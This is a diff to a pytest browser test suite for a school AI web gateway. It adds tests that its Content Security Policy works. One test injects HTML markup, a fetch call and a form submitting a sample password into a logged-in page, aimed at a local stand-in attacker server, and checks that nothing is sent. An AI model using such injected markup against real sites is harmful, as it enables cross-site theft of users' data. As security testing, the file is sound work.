@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import http.server
 import ssl
+import subprocess
 import threading
 from collections.abc import Iterator
 from urllib.parse import urlparse
@@ -16,7 +17,7 @@ from urllib.parse import urlparse
 import httpx
 import pytest
 
-from tests.browser.test_gateway_browser import browser, log_in, shoot  # noqa: F401 (browser is a fixture)
+from tests.browser.test_gateway_browser import CHROMIUM, LAUNCH_ARGS, log_in, shoot, sync_api
 from tests.conftest import free_port, shared_tls
 from tests.gateway_stack import running_stack, stack_config
 from tests.service_support import wait_until
@@ -51,7 +52,8 @@ class _Handler(http.server.BaseHTTPRequestHandler):
             self.send_response(200)
             self.send_header("content-type", "text/html; charset=utf-8")
         else:
-            self.server.requests.append(self.path)
+            if self.path != "/favicon.ico":  # what Chromium asks of the site whose frame.html it shows
+                self.server.requests.append(self.path)
             body = b"GIF89a"
             self.send_response(200)
             self.send_header("content-type", "image/gif")
@@ -80,6 +82,17 @@ def payload(base: str, label: str) -> str:
 
 
 @pytest.fixture(scope="module")
+def browser():
+    """Chromium as in test_gateway_browser, with a fake microphone that the page may use, to record as a student would."""
+    with sync_api.sync_playwright() as playwright:
+        trust = f"--ignore-certificate-errors-spki-list={shared_tls().spki_sha256}"
+        fake_microphone = ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"]
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=[*LAUNCH_ARGS, trust, *fake_microphone])
+        yield launched
+        launched.close()
+
+
+@pytest.fixture(scope="module")
 def stack(tmp_path_factory):
     folder = tmp_path_factory.mktemp("gateway")
     config = stack_config(folder)
@@ -98,7 +111,7 @@ def elsewhere(stack) -> Iterator[Elsewhere]:
 
 
 @pytest.fixture()
-def page(browser, stack):  # noqa: F811
+def page(browser, stack):
     context = browser.new_context(locale="de-DE", viewport={"width": 1280, "height": 900})
     page = context.new_page()
     page.set_default_timeout(90_000)
@@ -189,3 +202,62 @@ def test_no_other_site_can_frame_the_admin_ui(page, stack, elsewhere):
     # Chromium replaces a refused frame by its error page: nothing of the gateway is in it
     assert frame.url.startswith("chrome-error://") or frame.url == "about:blank", frame.url
     assert frame.locator("gradio-app, #name, form").count() == 0
+
+
+def test_the_policy_alone_stops_markup_that_slipped_through(page, stack, elsewhere):
+    """The second wall: markup put straight into the logged-in page, past the sanitising, still fetches and sends nothing."""
+    student = stack.add_user("safety-ben", "student", ("7a",))
+    log_in(page, stack, "safety-ben", student.password)
+    page.evaluate(
+        """base => {
+            const box = document.createElement('div');
+            box.id = 'slipped';
+            box.innerHTML = `<img src="${base}/csp-img"><img srcset="${base}/csp-srcset 1x"><video poster="${base}/csp-poster"></video>
+                <svg><image href="${base}/csp-svg" width="5" height="5"/></svg><audio src="${base}/csp-audio" autoplay></audio>
+                <form id="slipped-form" action="${base}/csp-form" method="post"><input name="passwort" value="geheim"></form>`;
+            document.body.appendChild(box);
+            fetch(`${base}/csp-fetch`).catch(() => {});
+            document.getElementById('slipped-form').submit();
+        }""",
+        elsewhere.base,
+    )
+    page.wait_for_timeout(2500)
+    assert elsewhere.requests == []
+    assert "safety" not in page.url and page.url.startswith(stack.url)  # the form did not leave the page
+    assert any("img-src" in text for text in page.policy_violations), page.policy_violations
+    assert any("form-action" in text for text in page.policy_violations), page.policy_violations
+
+
+def test_the_page_works_under_its_policy(browser, stack, tmp_path):
+    """Chat, every tab, a recording picked and one made with the microphone, and the English page: the policy
+    refuses nothing the page itself needs (each refusal is logged to the console)."""
+    student = stack.add_user("safety-tom", "teacher", ("7a",))
+    # Gradio's own labels (Play, Record audio) follow the browser's language; schulki's follow the path
+    context = browser.new_context(locale="en-US", permissions=["microphone"], viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    page.set_default_timeout(90_000)
+    violations: list[str] = []
+    page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
+    try:
+        log_in(page, stack, "safety-tom", student.password)
+        page.fill("#chat-input textarea", "Hallo!")
+        page.keyboard.press("Enter")
+        page.wait_for_function("() => (document.querySelector('#chatbot .bot')?.innerText || '').trim().length > 0")
+        for tab in ("Dokumente", "Übersetzen", "Transkription"):
+            page.get_by_role("tab", name=tab).click()
+        speech = tmp_path / "kurz.wav"
+        subprocess.run(["espeak-ng", "-v", "de", "-w", str(speech), "Guten Morgen."], check=True)
+        page.set_input_files("#recording input[type=file]", str(speech))
+        page.wait_for_selector("#recording button[aria-label=Play]", state="attached")
+        page.click("#recording button[aria-label=Clear]")
+        page.click("#recording button[aria-label='Record audio']")
+        page.locator("#recording button", has_text="Record").first.click()
+        page.wait_for_timeout(2000)
+        page.locator("#recording button", has_text="Stop").first.click()
+        page.wait_for_selector("#recording button[aria-label=Play]", state="attached")
+        page.wait_for_timeout(1000)
+        page.goto(stack.url + "/en/")
+        page.wait_for_selector("#header >> text=Logged in as")
+    finally:
+        context.close()
+    assert violations == []
